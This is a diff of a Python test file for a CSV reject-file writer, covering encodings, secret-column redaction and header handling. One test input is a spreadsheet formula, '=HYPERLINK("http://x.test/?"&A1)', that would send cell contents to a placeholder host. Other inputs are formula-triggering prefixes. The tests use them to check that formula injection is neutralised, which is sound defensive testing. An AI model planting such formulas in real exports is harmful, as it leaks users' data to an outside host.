@@ -20,15 +20,21 @@ WHY = ("price", "not_a_number", "no number, in that sense")
 
 
 def rejected(
-    folder: Path, content: bytes, lines: list[int], reported: ReadOptions | None = None, secret: str | None = None
+    folder: Path,
+    content: bytes,
+    lines: list[int],
+    reported: ReadOptions | None = None,
+    secret: str | None = None,
+    mapping: Mapping | None = None,
+    why: tuple[str, str, str] = WHY,
 ) -> bytes:
     """The reject file of these lines of a file."""
     source = folder / "source.csv"
     source.write_bytes(content)
     (folder / REJECTS_FILE).unlink(missing_ok=True)
     table = open_table(source, reported)
-    RejectsWriter(table, reported or ReadOptions(), dict.fromkeys(lines, WHY), secret).write(folder)
-    return (folder / REJECTS_FILE).read_bytes() if (folder / REJECTS_FILE).exists() else b""
+    RejectsWriter(table, reported or ReadOptions(), dict.fromkeys(lines, why), secret, mapping).write(folder)
+    return (folder / REJECTS_FILE).read_bytes()
 
 
 DIALECTS = {
@@ -61,21 +67,10 @@ def test_a_rejected_row_reads_back_as_it_stood(tmp_path: Path, content: bytes) -
     assert [row.cells for row in again.rows()] == [(*row.cells, str(row.line), *WHY) for row in rows]
 
 
-def test_the_dialect_is_the_files_own(tmp_path: Path) -> None:
-    made = rejected(tmp_path, DIALECTS["semicolons in cp1252, CRLF"], [3])
-    assert made.decode("cp1252") == (
-        "Código;Año;PVP;line;field;code;words\r\nÑ;2;y;3;price;not_a_number;no number, in that sense\r\n"
-    )
-
-
 def test_a_delimiter_that_the_rejected_rows_alone_do_not_show_is_named_in_the_file(tmp_path: Path) -> None:
     content = b'code, a, b, c, d, e0;c1\n"""q""";a\tb\na,b,c,d,e,f;a|b\na,b,c,d,e,f\n'
     assert b"code,a,b,c,d,e0;c1,line,field,code,words\n" in rejected(tmp_path, content, [2])
     assert count_reject_columns(open_table(tmp_path / REJECTS_FILE).columns) == 4
-
-
-def test_no_rejected_row_makes_a_header_alone(tmp_path: Path) -> None:
-    assert rejected(tmp_path, b"a;b\n1;2\n", []) == b"a;b;line;field;code;words\n"
 
 
 @pytest.mark.parametrize(
@@ -100,23 +95,24 @@ def test_what_was_reported_of_the_file_holds_for_the_rejects_too(tmp_path: Path,
     assert [row.cells for row in again.rows()] == [("B", "y", "2", "5", *words)]
 
 
-def test_a_file_without_header_gets_its_rows_back_alone(tmp_path: Path) -> None:
+def test_a_file_without_header_gets_its_rows_back_alone_and_one_without_rejects_has_its_header(tmp_path: Path) -> None:
     assert rejected(tmp_path, b"1;2\n3;4\n", [2], ReadOptions(header_row=0)) == b"3;4\n"
+    assert rejected(tmp_path, b"a;b\n1;2\n", []) == b"a;b;line;field;code;words\n"
 
 
 def test_words_that_the_file_cannot_hold_are_written_with_what_it_can(tmp_path: Path) -> None:
-    source = tmp_path / "source.csv"
-    source.write_bytes(b"a;b\n1;2\n")
-    table = open_table(source, ReadOptions(encoding="ascii"))
-    RejectsWriter(table, ReadOptions(encoding="ascii"), {2: ("a", "b", "Año – «x»")}, None).write(tmp_path)
-    assert (tmp_path / REJECTS_FILE).read_bytes() == b"a;b;line;field;code;words\n1;2;2;a;b;A?o ? ?x?\n"
+    ascii_only, why = ReadOptions(encoding="ascii"), ("a", "b", "Año – «x»")
+    written = rejected(tmp_path, b"a;b\n1;2\n", [2], ascii_only, why=why)
+    assert written == b"a;b;line;field;code;words\n1;2;2;a;b;A?o ? ?x?\n"
 
 
 def test_the_password_is_left_out_and_the_row_has_a_note(tmp_path: Path) -> None:
-    made = rejected(tmp_path, b"code;secret;price\nA;hunter2;x\nB;;y\n", [2, 3], secret="secret")
+    made = rejected(
+        tmp_path, b"code;secret;price\nA;hunter2;x\nB;;y\n", [2, 3], secret="secret", why=("price", "x", "no")
+    )
     assert made.decode().splitlines()[-2:] == [
-        f"A;;x;2;price;not_a_number;no number, in that sense; {REFILL_NOTE}".replace("no number", '"no number') + '"',
-        "B;;y;3;price;not_a_number;no number, in that sense",
+        f"A;;x;2;price;x;no; {REFILL_NOTE}".replace("no;", '"no;') + '"',
+        "B;;y;3;price;x;no",
     ]
 
 
@@ -147,11 +143,9 @@ def test_the_rejects_of_a_reject_file_tell_their_reasons_anew(tmp_path: Path) ->
 
 
 def test_columns_of_these_names_that_the_mapping_names_are_the_files_own(tmp_path: Path) -> None:
-    source = tmp_path / "source.csv"
-    source.write_text("sku;line;field;code;words\nA;1;2;3;4\n")
     names = ("sku", "line", "field", "code", "words")
     mapping = Mapping("variants", {name: MappedColumn(name, None) for name in names})
-    RejectsWriter(open_table(source), ReadOptions(), {2: WHY}, None, mapping).write(tmp_path)
+    rejected(tmp_path, b"sku;line;field;code;words\nA;1;2;3;4\n", [2], mapping=mapping)
     again = open_table(tmp_path / REJECTS_FILE)
     assert again.columns == (*names, "line_2", "field_2", "code_2", "words_2")
     assert [row.cells for row in again.rows()] == [("A", "1", "2", "3", "4", "2", *WHY)]
@@ -162,7 +156,6 @@ FORMULA = '=HYPERLINK("http://x.test/?"&A1)'
 
 @pytest.mark.parametrize("kind", ["header", "no header"])
 def test_no_cell_of_a_reject_file_runs_in_a_spreadsheet_and_it_is_read_as_it_was(tmp_path: Path, kind: str) -> None:
-    """Issue 12, item 3."""
     cells = (FORMULA, "-5", "'=1", "@x", "\t+1", "+34 600 112 233", "-1+2")
     options = ReadOptions(delimiter=";", quote='"', header_row=1 if kind == "header" else 0)
     source = io.StringIO()
@@ -194,7 +187,7 @@ def test_a_corrected_reject_file_with_a_formula_sends_the_text_of_the_cell(tmp_p
     assert item.body == {"sku": FORMULA}
 
 
-@settings(deadline=None)
+@settings(deadline=None, max_examples=30)
 @given(
     cells=st.lists(
         st.lists(
@@ -214,11 +207,10 @@ def test_any_cell_survives(
     folder = tmp_path_factory.mktemp("rejects")
     out = io.StringIO()
     csv.writer(out, delimiter=delimiter).writerows([["first", "second", "third"], *cells])
-    source = folder / "source.csv"
-    source.write_bytes(out.getvalue().encode(encoding))
+    content = out.getvalue().encode(encoding)
     reported = ReadOptions(encoding=encoding, delimiter=delimiter, quote='"', escape="", header_row=1)
-    table = open_table(source, reported)
-    rows = [row for row in table.rows() if isinstance(row, Row)]
-    RejectsWriter(table, reported, {row.line: WHY for row in rows}, None).write(folder)
+    (folder / "source.csv").write_bytes(content)
+    rows = [row for row in open_table(folder / "source.csv", reported).rows() if isinstance(row, Row)]
+    rejected(folder, content, [row.line for row in rows], reported)
     again = open_input_table(folder / REJECTS_FILE, reported, None)
     assert [row.cells[:3] for row in again.rows()] == [tuple(row) for row in cells]
